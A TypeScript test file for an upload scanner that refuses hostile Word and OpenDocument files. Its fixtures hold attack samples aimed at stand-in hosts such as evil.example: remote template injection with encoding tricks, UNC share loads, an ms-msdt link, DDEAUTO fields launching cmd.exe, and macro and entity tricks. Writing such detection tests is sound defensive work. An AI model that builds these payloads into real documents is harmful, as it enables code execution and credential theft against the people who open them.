import { expect, test } from 'vitest'
import { docx, odt, zip, type ZipEntry } from '../../../../test/zip.ts'
import { inspectFile } from '../inspection-client.ts'
import { requireContent } from './detection.ts'
import { RefusedUpload, type UploadFault } from './upload.ts'

async function verdict(bytes: Buffer): Promise<UploadFault | 'taken'> {
  try {
    await requireContent({ size: bytes.length, read: async (at, length) => bytes.subarray(at, at + length) }, null)
    return 'taken'
  } catch (error) {
    if (error instanceof RefusedUpload) return error.fault
    throw error
  }
}

const OF = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const NEW = 'http://schemas.microsoft.com/office/2011/relationships'
const word = (...more: ZipEntry[]) => zip(docx(more))
const relations = (inside: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`
/** A document with relations of a part. */
const related = (inside: string, of = 'word/_rels/document.xml.rels') => word({ name: of, bytes: relations(inside) })
const relation = (kind: string, target: string, more = 'TargetMode="External"') =>
  related(`<Relationship Id="a" Type="${OF}/${kind}" Target="${target}" ${more}/>`)
const template = (target: string) => relation('attachedTemplate', target)
const written = (inside: string) => word({ name: 'word/header1.xml', bytes: `<w:hdr xmlns:w="w">${inside}</w:hdr>` })
const field = (...parts: string[]) =>
  written(
    `<w:fldChar w:fldCharType="begin"/>${parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join('')}<w:fldChar w:fldCharType="end"/>`,
  )

const hostileWord: [string, Buffer, UploadFault][] = [
  ['a template at an address', template('http://evil.example/t.dotm'), 'macros'],
  ['a template with letters by their numbers', template('&#104;ttp://evil.example/t.dotm'), 'macros'],
  ['a template with letters in hexadecimal', template('h&#x74;tps://evil.example/t.dotm'), 'macros'],
  ['a template with escaped letters', template('%68ttp://evil.example/t.dotm'), 'macros'],
  ['a template behind a blank', template('&#x9; http://evil.example/t.dotm'), 'macros'],
  [
    'a template in single quotes',
    related(`<Relationship Type='${OF}/attachedTemplate' Target='http://evil.example/t' TargetMode='External'/>`),
    'macros',
  ],
  [
    'a template with its target first',
    related(`<Relationship TargetMode="External" Target="http://evil.example/t"\n Type="${OF}/attachedTemplate"/>`),
    'macros',
  ],
  [
    'a template of another prefix',
    related(`<x:Relationship xmlns:x="x" Type="${OF}/attachedTemplate" Target="http://evil.example/t"/>`),
    'macros',
  ],
  ['a template on another machine', template('\\\\evil\\share\\t.dotm'), 'macros'],
  ['a template on another machine as a file', template('file://evil/share/t.dotm'), 'macros'],
  ['a template on another machine with many slashes', template('file://///evil/share/t.dotm'), 'macros'],
  ['a template on another machine with slashes', template('//evil/share/t.dotm'), 'macros'],
  ['a template on another machine by escapes', template('%5C%5Cevil%5Ct.dotm'), 'macros'],
  ['a template by mhtml', template('mhtml:http://evil.example/t!x'), 'macros'],
  [
    'a template of another part',
    related(`<Relationship Type="${OF}/attachedTemplate" Target="http://evil.example"/>`, 'word/_rels/x.xml.RELS'),
    'macros',
  ],
  [
    'a template in UTF-16',
    word({
      name: 'word/_rels/settings.xml.rels',
      bytes: Buffer.from(
        `\ufeff<?xml version="1.0" encoding="UTF-16"?><Relationships><Relationship Type="${OF}/attachedTemplate" Target="http://evil.example/t"/></Relationships>`,
        'utf16le',
      ),
    }),
    'macros',
  ],
  [
    'relations with words of their own',
    word({ name: 'word/_rels/x.xml.rels', bytes: '<!DOCTYPE a [<!ENTITY h "http">]><Relationships/>' }),
    'broken',
  ],
  ['relations that are no XML', word({ name: 'word/_rels/x.xml.rels', bytes: '<Relationships>' }), 'broken'],
  ['a picture at an address', relation('image', 'https://evil.example/p.png'), 'external'],
  ['a picture on another machine', relation('image', '\\\\evil\\p.png'), 'external'],
  ['a picture at an address that says it is inside', relation('image', 'https://evil.example/p.png', ''), 'external'],
  ['a picture outside of the document', relation('image', '../../../p.png', ''), 'external'],
  ['an object on another machine', relation('oleObject', '\\\\evil\\share\\x.doc'), 'embedded'],
  ['an object at an address', relation('oleObject', 'mhtml:http://evil.example/x!y'), 'embedded'],
  ['an object inside', relation('oleObject', 'embeddings/x.bin', ''), 'embedded'],
  ['a document inside', relation('package', 'embeddings/x.docx', ''), 'embedded'],
  ['another text at an address', relation('aFChunk', 'http://evil.example/x.html'), 'embedded'],
  ['another text inside', relation('aFChunk', 'afchunk.mht', ''), 'embedded'],
  ['another text without relations', written('<w:altChunk/>'), 'embedded'],
  [
    'a frame of a page',
    related(
      `<Relationship Type="${OF}/frame" Target="http://evil.example" TargetMode="External"/>`,
      'word/_rels/webSettings.xml.rels',
    ),
    'embedded',
  ],
  ['a document that belongs to it', relation('subDocument', 'http://evil.example/x.docx'), 'embedded'],
  ['a table of addresses', relation('mailMergeSource', 'file:///C:/x.csv'), 'embedded'],
  ['a relation that nobody knows', relation('somethingNew', 'x.xml', ''), 'embedded'],
  ['a relation of a stranger', related('<Relationship Type="http://x/image" Target="x.png"/>'), 'embedded'],
  ['commands of its own', related(`<Relationship Type="${NEW}/ui/extensibility" Target="x.xml"/>`), 'macros'],
  ['a link that starts a program', relation('hyperlink', 'ms-msdt:/id%20PCWDiagnostic'), 'external'],
  ['a link by mhtml', relation('hyperlink', 'mhtml:http://evil.example/x'), 'external'],
  ['a link with a script', relation('hyperlink', 'java&#10;script:x'), 'external'],
  ['a link to another machine', relation('hyperlink', 'file://evil/share'), 'external'],
  ['a field that starts a program', field('DDEAUTO c:\\\\cmd.exe "/k calc"'), 'macros'],
  ['a field in pieces that starts a program', field(' D', 'DE', 'AUTO', ' cmd'), 'macros'],
  ['a short field that starts a program', written('<w:fldSimple w:instr="&#68;DE cmd"/>'), 'macros'],
  ['a field that loads a text', field('INCLUDETEXT "\\\\\\\\evil\\\\x.docx"'), 'external'],
  ['a field that loads a picture each time', field('INCLUDEPICTURE "http://evil.example/p.png" \\d'), 'external'],
  ['a field that loads a picture of another machine', field('INCLUDEPICTURE "\\\\\\\\evil\\\\p.png"'), 'external'],
  [
    'macros that are declared by numbers',
    zip(
      docx([], '<Types><Override ContentType="application/vnd.ms-word.document.&#109;acroEnabled.main+xml"/></Types>'),
    ),
    'macros',
  ],
  ['two parts of one name', word({ name: 'WORD/document.xml', bytes: '<w/>' }), 'polyglot'],
  ['a part with a hidden name', word({ name: 'word/_rels/settings.xml.r%65ls', bytes: relations('') }), 'polyglot'],
]
test.each(hostileWord)('a document of Word with %s is refused', async (_what, bytes, fault) => {
  expect(await verdict(bytes)).toBe(fault)
})

const content = (inside: string) =>
  zip(odt([{ name: 'styles.xml', bytes: `<x xmlns:draw="d" xmlns:xlink="l">${inside}</x>` }]))
const hostileText: [string, Buffer, UploadFault][] = [
  ['an object', zip(odt([{ name: 'Object 1', bytes: 'x' }])), 'embedded'],
  ['an object of parts', zip(odt([{ name: 'Object 1/content.xml', bytes: '<x/>' }])), 'embedded'],
  ['a picture of an object', zip(odt([{ name: 'ObjectReplacements/Object 1', bytes: 'x' }])), 'embedded'],
  ['a part that nobody knows', zip(odt([{ name: 'other.bin', bytes: 'x' }])), 'embedded'],
  ['an object that is named', content('<draw:object-ole xlink:href="./Pictures/1"/>'), 'embedded'],
  ['a frame', content("<draw:floating-frame xlink:href='http://evil.example'/>"), 'embedded'],
  ['a program of a browser', content('<draw:plugin/>'), 'embedded'],
  ['a picture at an address', content('<draw:image xlink:href="http://evil.example/p.png"/>'), 'external'],
  ['a picture by numbers', content("<draw:image xlink:href='&#104;ttp://evil.example/p.png'/>"), 'external'],
  ['a picture on another machine', content('<draw:image xlink:href="file://evil/p.png"/>'), 'external'],
  ['a picture outside', content('<draw:image xlink:href="../../p.png"/>'), 'external'],
  ['a section from an address', content('<text:section-source xlink:href="http://evil.example/x.odt"/>'), 'external'],
  ['a template at an address', content('<meta:template xlink:href="https://evil.example/t.ott"/>'), 'external'],
  ['another beginning of addresses', content('<draw:g xml:base="http://evil.example/"/>'), 'external'],
  ['a macro at an event', content('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), 'macros'],
  ['data of another program', content('<office:dde-source office:dde-topic="x"/>'), 'macros'],
  [
    'a macro at a key',
    zip(odt([{ name: 'Configurations2/accelerator/current.xml', bytes: '<a l:href="vnd.sun.star.script:x"/>' }])),
    'external',
  ],
  [
    'a password',
    zip(odt([{ name: 'META-INF/manifest.xml', bytes: '<m><file-entry><encryption-data/></file-entry></m>' }])),
    'encrypted',
  ],
  ['words of its own', zip(odt([{ name: 'meta.xml', bytes: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }])), 'broken'],
]
test.each(hostileText)('an OpenDocument text with %s is refused', async (_what, bytes, fault) => {
  expect(await verdict(bytes)).toBe(fault)
})

test('what Word writes is taken: links, the template of the writer, pictures, charts, and parts beside each other', async () => {
  const all = [
    ...[
      'https://kari.example',
      'mailto:kari@example.com',
      'tel:+4791234567',
      '#top',
      'cv.pdf',
      'file:///C:/cv.pdf',
    ].map((target, i) => `<Relationship Id="l${i}" Type="${OF}/hyperlink" Target="${target}" TargetMode="External"/>`),
    `<Relationship Type="${OF}/attachedTemplate" Target="file:///C:\\Users\\Kari%20Lie\\CV.dotx" TargetMode="External"/>`,
    `<Relationship Type="${OF}/attachedTemplate" Target="Normal.dotm"/>`,
    `<Relationship Type="${OF}/image" Target="media/image1.png"/>`,
    `<Relationship Type="${OF}/image" Target="NULL" TargetMode="External"/>`,
    `<Relationship Type="${OF}/image" Target="file:///C:/Users/Kari/Temp/clip_image001.png" TargetMode="External"/>`,
    `<Relationship Type="${OF}/customXml" Target="../customXml/item1.xml"/>`,
    `<Relationship Type="${OF}/styles" Target="/word/styles.xml"/>`,
    `<Relationship Type="${NEW}/people" Target="people.xml"/>`,
    `<Relationship Type="http://purl.oclc.org/ooxml/officeDocument/relationships/theme" Target="theme/theme1.xml"/>`,
  ]
  expect(await verdict(related(all.join('')))).toBe('taken')
  const chart = `<Relationship Type="${OF}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>`
  expect(await verdict(related(chart, 'word/charts/_rels/chart1.xml.rels'))).toBe('taken')
  expect(await verdict(field('HYPERLINK "https://kari.example"', ' \\h'))).toBe('taken')
  expect(await verdict(field('INCLUDEPICTURE "https://kari.example/me.png" \\* MERGEFORMATINET'))).toBe('taken')
  expect(await verdict(field('PAGE'))).toBe('taken')
})

test('what LibreOffice writes is taken: links, its template, pictures and settings', async () => {
  const inside = `<text:a xlink:href="https://kari.example"/><text:a xlink:href="mailto:kari@example.com"/>
    <draw:image xlink:href="Pictures/1.png"/><meta:template xlink:href="../../.config/libreoffice/CV.ott"/>`
  const bytes = zip([
    ...odt([
      { name: 'styles.xml', bytes: `<x xmlns:draw="d">${inside}</x>` },
      { name: 'Pictures/1.png', bytes: 'x' },
      { name: 'Configurations2/accelerator/current.xml', bytes: '<a:item l:href=".uno:Bold"/>' },
      { name: 'manifest.rdf', bytes: '<x/>' },
      {
        name: 'META-INF/manifest.xml',
        bytes: '<m><file-entry media-type="application/vnd.oasis.opendocument.text"/></m>',
      },
    ]),
  ])
  expect(await verdict(bytes)).toBe('taken')
})

test('a document of thousands of parts is refused before any of them is opened', async () => {
  const many = word(...Array.from({ length: 4_987 }, (_, i) => ({ name: `word/media/${i}.png`, bytes: 'x' })))
  const before = process.cpuUsage()
  expect(await verdict(many)).toBe('bomb')
  const { user, system } = process.cpuUsage(before)
  expect((user + system) / 1e6, 'seconds of a processor').toBeLessThan(0.5)
})

test('documents are inspected in another process, which gives the same answer', async () => {
  const asked = (bytes: Buffer) =>
    inspectFile({ companyId: 'fjellvik', size: bytes.length, bytes: [bytes], promised: 'docx' })
  expect((await asked(word())).type).toBe('docx')
  await expect(asked(template('&#104;ttp://evil.example'))).rejects.toThrow('macros')
  await expect(asked(zip(odt()))).rejects.toThrow('wrong-name')
})
